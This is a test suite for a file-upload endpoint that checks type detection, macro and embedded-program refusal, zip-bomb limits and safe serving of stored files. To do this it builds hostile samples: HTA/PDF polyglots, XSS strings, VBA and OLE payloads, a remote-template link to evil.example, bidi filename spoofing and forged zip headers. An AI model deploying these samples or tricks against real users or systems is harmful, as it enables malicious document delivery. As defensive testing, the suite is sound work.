/**
 * Evidence files cannot harm whoever opens them: an allow list of types decided by the bytes,
 * names that end with the detected type's extension, package (OOXML/ODF) inspection for macros,
 * embedded programs and zip bombs, a strict no-markup rule for text, one file per request, and
 * safe serving of every stored file, including those stored before these rules.
 */
import { randomBytes } from 'node:crypto';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dgrs2565 } from '../../seeds/frameworks/dgrs-2565/framework';
import { LocalStorage } from '../../server/src/lib/storage';
import { importFramework } from '../../server/src/modules/frameworks/frameworks.service';
import { type Personas, setupPersonas } from '../support/fixtures';
import { multipart } from '../support/multipart';
import { openCycleWithResponse } from '../support/open-cycle';
import { docx, gif, jpeg, odt, pdf, png, WORD_MAIN, xlsx } from '../support/sample-files';
import { createTestApp, type TestApp } from '../support/test-app';

let t: TestApp;
let p: Personas;
let responseId: number;

beforeAll(async () => {
  t = await createTestApp();
  p = await setupPersonas(t.app, t.db);
  ({ responseId } = await openCycleWithResponse(t, p.respondentA));
});
afterAll(async () => t.close());

const upload = (name: string, content: Buffer, type = 'application/octet-stream') => {
  const m = multipart({ questionCode: 'DG_STATUS' }, { name, content, type });
  return t.app.inject({
    method: 'POST',
    url: `/api/responses/${responseId}/evidence`,
    headers: { ...p.respondentA.headers, 'content-type': m.contentType },
    payload: m.payload,
  });
};
const download = (id: string) =>
  t.app.inject({ method: 'GET', url: `/api/evidence/${id}/download`, headers: p.analyst.headers });
const rowCount = async () =>
  (await t.db.selectFrom('evidence').select('id').where('response_id', '=', responseId).execute()).length;

/** Refused with 415, a reason the client can word, and nothing stored. */
async function expectRefused(name: string, content: Buffer, reason: string, type?: string) {
  const before = await rowCount();
  const res = await upload(name, content, type);
  expect(res.statusCode, `${name}: ${res.body}`).toBe(415);
  expect(res.json().error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
  expect(res.json().error.details?.reason, `${name}: ${res.body}`).toBe(reason);
  expect(await rowCount()).toBe(before);
  return res.json().error as { message: string; details: Record<string, string> };
}

/** Accepted, stored and served under `served` with `mime`, as an attachment nothing will sniff or run. */
async function expectServed(name: string, content: Buffer, served: string, mime: string, type?: string) {
  const res = await upload(name, content, type);
  expect(res.statusCode, `${name}: ${res.body}`).toBe(201);
  const ev = res.json();
  expect(ev.fileName).toBe(served);
  expect(ev.mime).toBe(mime);
  const dl = await download(ev.id);
  expect(dl.statusCode).toBe(200);
  expect(String(dl.headers['content-type']).split(';')[0]).toBe(mime);
  const disposition = String(dl.headers['content-disposition']);
  expect(disposition).toMatch(/^attachment; filename="[^"\\]*"; filename\*=UTF-8''/);
  expect(decodeURIComponent(disposition.split("UTF-8''")[1] ?? '')).toBe(served);
  expect(dl.headers['x-content-type-options']).toBe('nosniff');
  expect(String(dl.headers['content-security-policy'])).toMatch(/default-src 'none'; sandbox/);
  expect(dl.rawPayload.equals(content)).toBe(true);
  return ev;
}

/** Sets an entry's declared expanded size (central directory and local header) without changing its data. */
function lieAboutSize(zip: Buffer, name: string, size: number): Buffer {
  const out = Buffer.from(zip);
  for (let i = out.length - 22; i >= 0; i--) {
    if (out.readUInt32LE(i) !== 0x06054b50) continue;
    let cd = out.readUInt32LE(i + 16);
    for (let n = out.readUInt16LE(i + 10); n > 0; n--) {
      const len = out.readUInt16LE(cd + 28);
      if (out.toString('utf8', cd + 46, cd + 46 + len) === name) {
        out.writeUInt32LE(size, cd + 24);
        out.writeUInt32LE(size, out.readUInt32LE(cd + 42) + 22);
      }
      cd += 46 + len + out.readUInt16LE(cd + 30) + out.readUInt16LE(cd + 32);
    }
    return out;
  }
  throw new Error('no end of central directory');
}

/** Adds a second central-directory record for `name`, renamed `alias`, pointing at the same data (overlapping entries). */
function overlapEntry(zip: Buffer, name: string, alias: string): Buffer {
  const eocd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  let cd = zip.readUInt32LE(eocd + 16);
  for (let n = zip.readUInt16LE(eocd + 10); n > 0; n--) {
    const len = zip.readUInt16LE(cd + 28);
    const size = 46 + len + zip.readUInt16LE(cd + 30) + zip.readUInt16LE(cd + 32);
    if (zip.toString('utf8', cd + 46, cd + 46 + len) === name) {
      const copy = Buffer.from(zip.subarray(cd, cd + size));
      copy.write(alias, 46, 'utf8');
      const end = Buffer.from(zip.subarray(eocd));
      end.writeUInt16LE(end.readUInt16LE(8) + 1, 8);
      end.writeUInt16LE(end.readUInt16LE(10) + 1, 10);
      end.writeUInt32LE(end.readUInt32LE(12) + size, 12);
      return Buffer.concat([zip.subarray(0, eocd), copy, end]);
    }
    cd += size;
  }
  throw new Error(`no entry ${name}`);
}

describe('names that say another type: renamed to the detected type', () => {
  it('serves a PDF named .hta, .bat, .exe, .html or .svg under a .pdf name', async () => {
    // Polyglots: PDF bytes carrying a script an HTA host or a browser would run under the given name.
    const payload = '<html><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>';
    await expectServed('update.hta', pdf(payload), 'update.pdf', 'application/pdf', 'application/hta');
    await expectServed(
      'run.bat',
      pdf('@echo off\r\ncalc.exe'),
      'run.pdf',
      'application/pdf',
      'application/x-msdownload',
    );
    await expectServed('report.pdf.exe', pdf(), 'report.pdf', 'application/pdf');
    await expectServed('poly.html', pdf(payload), 'poly.pdf', 'application/pdf', 'text/html');
    await expectServed('logo.svg', pdf('<svg onload="alert(1)"/>'), 'logo.pdf', 'application/pdf', 'image/svg+xml');
    await expectServed('scan', pdf(), 'scan.pdf', 'application/pdf');
    await expectServed('คำสั่ง ที่ 12.2566', pdf(), 'คำสั่ง ที่ 12.2566.pdf', 'application/pdf');
  });

  it('strips bidi and other invisible characters so a name shows what it is', async () => {
    // Displays as "invoiceexe.pdf"; it is invoice + "fdp.exe".
    const name = 'invoice\u202Efdp.exe';
    const ev = await expectServed(name, pdf(), 'invoicefdp.pdf', 'application/pdf');
    const audit = await t.db
      .selectFrom('audit_log')
      .select('after')
      .where('action', '=', 'evidence.upload')
      .where('entity_id', '=', ev.id)
      .executeTakeFirstOrThrow();
    // The name as given is kept as a label, without the override.
    expect(audit.after).toMatchObject({ fileName: 'invoicefdp.pdf', originalName: 'invoicefdp.exe' });
    for (const c of [
      '\u202A',
      '\u202B',
      '\u202C',
      '\u202D',
      '\u2066',
      '\u2067',
      '\u2068',
      '\u2069',
      '\u200E',
      '\u200F',
      '\u061C',
      '\u0007',
    ]) {
      const res = await upload(`a${c}b.pdf`, pdf());
      expect(res.json().fileName, JSON.stringify(c)).toBe('ab.pdf');
    }
    // A real program behind the same trick is still refused.
    await expectRefused(name, Buffer.concat([Buffer.from('MZ\x90\x00'), randomBytes(300)]), 'not-allowed');
  });
});

describe('names that say another accepted type: 415 saying what the content is', () => {
  it('refuses a PDF named .docx, a PNG named .pdf and a PDF sent as image/png', async () => {
    const a = await expectRefused('plan.docx', pdf(), 'mismatch');
    expect(a.message).toBe("The file's content is PDF, but its name says .docx");
    expect(a.details).toMatchObject({ detected: 'PDF', claimed: '.docx' });
    const b = await expectRefused('chart.pdf', png(), 'mismatch');
    expect(b.message).toBe("The file's content is PNG image, but its name says .pdf");
    const c = await expectRefused('scan.pdf', pdf(), 'mismatch', 'image/png');
    expect(c.message).toBe("The file's content is PDF, but it was sent as image/png");
    await expectRefused('data.csv', await xlsx(), 'mismatch');
  });
});

describe('content outside the allow list', () => {
  it('refuses SVG, HTML and XML whatever the name', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
    await expectRefused('logo.svg', svg, 'markup', 'image/svg+xml');
    await expectRefused('logo.png', svg, 'markup', 'image/png');
    await expectRefused('page.txt', Buffer.from('<!DOCTYPE html><p>hi'), 'markup');
    await expectRefused('feed.txt', Buffer.from('<?xml version="1.0"?><x/>'), 'markup');
  });

  it('refuses text a browser could render as a page: any tag, closing tag or script URL', async () => {
    await expectRefused('notes.txt', Buffer.from('ok\n<video><source onerror=alert(1)>\n'), 'markup');
    await expectRefused('notes.txt', Buffer.from('<details open ontoggle=alert(1)>'), 'markup');
    await expectRefused('notes.txt', Buffer.from('x</title><img src=x onerror=alert(1)>'), 'markup');
    await expectRefused('list.csv', Buffer.from('name,link\nx,javascript:alert(1)\n'), 'markup');
    await expectRefused('list.csv', Buffer.from('a,b\n<!-- -->,1\n'), 'markup');
    await expectRefused('thai.txt', Buffer.from('ข้อความ <ก>'), 'markup');
    // Not UTF-8, NUL bytes: not text.
    await expectRefused('utf16.txt', Buffer.from('\ufeffhello', 'utf16le'), 'not-allowed');
    await expectRefused('latin1.csv', Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x0a]), 'not-allowed');
    // Comparisons are not markup.
    await expectServed('limits.txt', Buffer.from('ค่า a < b และ x <5 หรือ 3<4\n'), 'limits.txt', 'text/plain');
  });
});

describe('Office and OpenDocument packages', () => {
  it('refuses macros: vbaProject.bin in a docx, and a macro-enabled (docm) document named .docx', async () => {
    const vba = await docx({
      defaults: { bin: 'application/vnd.ms-office.vbaProject' },
      files: { 'word/vbaProject.bin': randomBytes(512) },
    });
    await expectRefused('plan.docx', vba, 'macro');
    const hiddenVba = await docx({ files: { 'word/vbaProject.bin': randomBytes(512) } });
    await expectRefused('plan.docx', hiddenVba, 'macro');
    const docm = await docx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' });
    const e = await expectRefused('plan.docx', docm, 'not-allowed');
    expect(e.message).toMatch(/DOCM/);
  });

  it('refuses a docx-shaped zip holding invoice.exe, an OLE object, or parts it does not declare', async () => {
    const exe = Buffer.concat([Buffer.from('MZ'), randomBytes(256)]);
    await expectRefused('invoice.docx', await docx({ files: { 'word/media/invoice.exe': exe } }), 'undeclared-part');
    await expectRefused(
      'invoice.docx',
      await docx({ defaults: { exe: 'application/octet-stream' }, files: { 'word/media/invoice.exe': exe } }),
      'embedded',
    );
    await expectRefused(
      'report.docx',
      await docx({
        defaults: { bin: 'application/vnd.openxmlformats-officedocument.oleObject' },
        files: { 'word/embeddings/oleObject1.bin': randomBytes(256) },
      }),
      'macro',
    );
    await expectRefused(
      'report.docx',
      await docx({
        defaults: { dat: 'application/octet-stream' },
        files: { 'word/embeddings/payload.dat': randomBytes(64) },
      }),
      'embedded',
    );
    // A template fetched from elsewhere when the document opens (remote template injection).
    const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
    await expectRefused('report.docx', await docx({ documentRels: rels }), 'external-link');
    // A nested workbook (as a chart keeps its data) is inspected too.
    const macroBook = await docx({ files: { 'word/vbaProject.bin': randomBytes(64) } });
    await expectRefused(
      'chart.docx',
      await docx({
        defaults: { docx: WORD_MAIN },
        files: { 'word/embeddings/Microsoft_Word_Document.docx': macroBook },
      }),
      'macro',
    );
  });

  it('refuses zip bombs and tricks: a huge expansion ratio, an entry larger than it declares, overlapping or renamed entries', async () => {
    // 24 MiB of zeros compress to about 24 KiB: small to upload, huge to open.
    const bomb = await docx({ files: { 'word/media/filler.xml': Buffer.alloc(24 * 1024 * 1024) } });
    expect(bomb.length).toBeLessThan(200 * 1024);
    const e = await expectRefused('bomb.docx', bomb, 'zip-bomb');
    expect(e.message).toMatch(/expands \d+ times/);
    // Declares 100 bytes, holds 200 KiB: the reader must stop at the declared size, not trust it.
    const liar = lieAboutSize(
      await docx({ files: { 'word/media/filler.xml': Buffer.alloc(200 * 1024, 0x41) } }),
      'word/media/filler.xml',
      100,
    );
    await expectRefused('liar.docx', liar, 'zip-bomb');
    // Two entries sharing the same bytes (how the strongest bombs multiply), or named one way in the
    // directory and another in the entry itself.
    const base = await docx();
    await expectRefused('overlap.docx', overlapEntry(base, 'word/document.xml', 'word/documenx.xml'), 'malformed');
    const renamed = Buffer.from(base);
    renamed.write('word/documenx.xml', renamed.indexOf('word/document.xml'), 'utf8');
    await expectRefused('renamed.docx', renamed, 'malformed');
  });

  it('refuses ODF macros (Basic/ and script entries)', async () => {
    await expectRefused('plan.odt', await odt({ 'Basic/Standard/Module1.xml': '<x/>' }), 'macro');
    await expectRefused(
      'plan.odt',
      await odt(
        {},
        '<manifest:file-entry manifest:full-path="Scripts/x.py" manifest:media-type="application/x-python-script"/>',
      ),
      'macro',
    );
  });
});

describe('accepted files', () => {
  it('uploads and downloads PDF, PNG, JPEG, GIF, DOCX, XLSX, ODT, CSV and TXT with the right type and name', async () => {
    await expectServed('แผน 2566.pdf', pdf(), 'แผน 2566.pdf', 'application/pdf', 'application/pdf');
    await expectServed('ผัง.png', png(), 'ผัง.png', 'image/png', 'image/png');
    await expectServed('photo.JPEG', jpeg(), 'photo.JPEG', 'image/jpeg', 'image/jpeg');
    await expectServed('anim.gif', gif(), 'anim.gif', 'image/gif');
    const withLink = await docx({
      documentRels: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.dga.or.th/" TargetMode="External"/></Relationships>`,
    });
    await expectServed(
      'รายงาน.docx',
      withLink,
      'รายงาน.docx',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    );
    await expectServed(
      'data.xlsx',
      await xlsx([
        ['รหัส', 'ชื่อ'],
        [1, 'ก'],
      ]),
      'data.xlsx',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    await expectServed('report.odt', await odt(), 'report.odt', 'application/vnd.oasis.opendocument.text');
    // Windows browsers send .csv as application/vnd.ms-excel: a claim outside the list, not a mismatch.
    await expectServed('list.csv', Buffer.from('รหัส,ชื่อ\n1,ข้อมูล\n'), 'list.csv', 'text/csv', 'application/vnd.ms-excel');
    await expectServed('notes.txt', Buffer.from('\ufeffบันทึก\r\n'), 'notes.txt', 'text/plain', 'text/plain');
    // Text named something else is plain text; a CSV that starts like a BMP signature is still text.
    await expectServed('readme.md', Buffer.from('# หัวข้อ\n'), 'readme.txt', 'text/plain');
    await expectServed('bm.csv', Buffer.from('BM,1\n'), 'bm.csv', 'text/csv');
  });
});

describe('one file per request', () => {
  it('answers 400 (not 413) to two file parts, storing nothing', async () => {
    const boundary = `----dg${randomBytes(6).toString('hex')}`;
    const part = (name: string, content: Buffer) =>
      Buffer.concat([
        Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/pdf\r\n\r\n`,
        ),
        content,
        Buffer.from('\r\n'),
      ]);
    const payload = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="questionCode"\r\n\r\nDG_STATUS\r\n`),
      part('a.pdf', pdf()),
      part('b.pdf', pdf()),
      Buffer.from(`--${boundary}--\r\n`),
    ]);
    const before = await rowCount();
    const res = await t.app.inject({
      method: 'POST',
      url: `/api/responses/${responseId}/evidence`,
      headers: { ...p.respondentA.headers, 'content-type': `multipart/form-data; boundary=${boundary}` },
      payload,
    });
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().error).toMatchObject({ code: 'VALIDATION_FAILED', message: 'Send exactly one file per request' });
    expect(await rowCount()).toBe(before);
  });
});

describe('files stored before these rules', () => {
  it('are served under their stored type: the detected extension, nosniff, attachment', async () => {
    const cases = [
      {
        name: 'report.pdf.exe',
        mime: 'application/pdf',
        content: pdf(),
        served: 'report.pdf',
        type: 'application/pdf',
      },
      {
        name: 'page.html',
        mime: 'text/plain',
        content: Buffer.from('<b>hi</b>'),
        served: 'page.txt',
        type: 'text/plain',
      },
      { name: 'x\u202Egpj.hta', mime: 'image/png', content: png(), served: 'xgpj.png', type: 'image/png' },
      {
        name: 'old.doc',
        mime: 'application/msword',
        content: randomBytes(64),
        served: 'old.doc',
        type: 'application/msword',
      },
    ];
    for (const c of cases) {
      const sha = randomBytes(32).toString('hex');
      await new LocalStorage(t.config.storageDir).put(sha, c.content);
      const row = await t.db
        .insertInto('evidence')
        .values({
          id: crypto.randomUUID(),
          response_id: responseId,
          question_code: 'DG_STATUS',
          kind: 'file',
          url: null,
          file_name: c.name,
          mime: c.mime,
          size: c.content.length,
          sha256: sha,
          storage_key: sha,
          created_by: null,
        })
        .returning('id')
        .executeTakeFirstOrThrow();
      const dl = await download(row.id);
      expect(dl.statusCode, dl.body).toBe(200);
      expect(String(dl.headers['content-type']).split(';')[0]).toBe(c.type);
      expect(decodeURIComponent(String(dl.headers['content-disposition']).split("UTF-8''")[1] ?? '')).toBe(c.served);
      expect(String(dl.headers['content-disposition'])).toMatch(/^attachment;/);
      expect(dl.headers['x-content-type-options']).toBe('nosniff');
      const detail = await t.app.inject({
        method: 'GET',
        url: `/api/responses/${responseId}`,
        headers: p.viewerA.headers,
      });
      const listed = detail.json().evidence.find((e: { id: string }) => e.id === row.id);
      expect(listed.fileName).toBe(c.served);
    }
  });
});

describe('historical import follows the same rules', () => {
  it('refuses a macro workbook, a zip bomb, a PDF named .csv and two files; takes a clean XLSX to validation', async () => {
    const { row: fw } = await importFramework(t.db, dgrs2565, { userId: null, email: null, ip: null });
    const cycle = await t.db
      .insertInto('cycles')
      .values({
        fiscal_year: 2022,
        name_th: 'ย้อนหลัง',
        name_en: 'History',
        framework_id: fw.id,
        status: 'closed',
        opens_at: new Date(Date.now() - 60 * 86_400_000),
        closes_at: new Date(Date.now() - 30 * 86_400_000),
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    const imp = (name: string, content: Buffer) => {
      const m = multipart({}, { name, content });
      return t.app.inject({
        method: 'POST',
        url: `/api/admin/cycles/${cycle.id}/import`,
        headers: { ...p.admin.headers, 'content-type': m.contentType },
        payload: m.payload,
      });
    };
    const book = await JSZip.loadAsync(await xlsx([['agency_code', 'question_code', 'value']]));
    book.file('xl/vbaProject.bin', randomBytes(128));
    const macro = await imp('history.xlsx', await book.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' }));
    expect(macro.statusCode, macro.body).toBe(415);
    expect(macro.json().error.details.reason).toBe('macro');
    const wrong = await imp('history.csv', pdf());
    expect(wrong.statusCode).toBe(415);
    expect(wrong.json().error.message).toBe("The file's content is PDF, but its name says .csv");
    const bomb = await imp(
      'history.xlsx',
      await docx({ files: { 'word/media/f.xml': Buffer.alloc(24 * 1024 * 1024) } }),
    );
    expect(bomb.statusCode).toBe(415);
    // A clean workbook passes the file checks and reaches the import's own validation.
    const clean = await imp('history.xlsx', await xlsx([['agency_code', 'question_code', 'value']]));
    expect(clean.statusCode, clean.body).toBe(422);
    expect(clean.json().error.details.errors[0].reason).toBe('empty_file');
    const m = multipart({}, { name: 'a.csv', content: Buffer.from('a,b\n') });
    const second = m.payload.toString('latin1').replace(/--(\S+)--\r\n$/, (_all, b) => {
      return `--${b}\r\nContent-Disposition: form-data; name="file2"; filename="b.csv"\r\nContent-Type: text/csv\r\n\r\nc,d\n\r\n--${b}--\r\n`;
    });
    const two = await t.app.inject({
      method: 'POST',
      url: `/api/admin/cycles/${cycle.id}/import`,
      headers: { ...p.admin.headers, 'content-type': m.contentType },
      payload: Buffer.from(second, 'latin1'),
    });
    expect(two.statusCode, two.body).toBe(400);
    expect(two.json().error.message).toBe('Send exactly one file per request');
  });
});
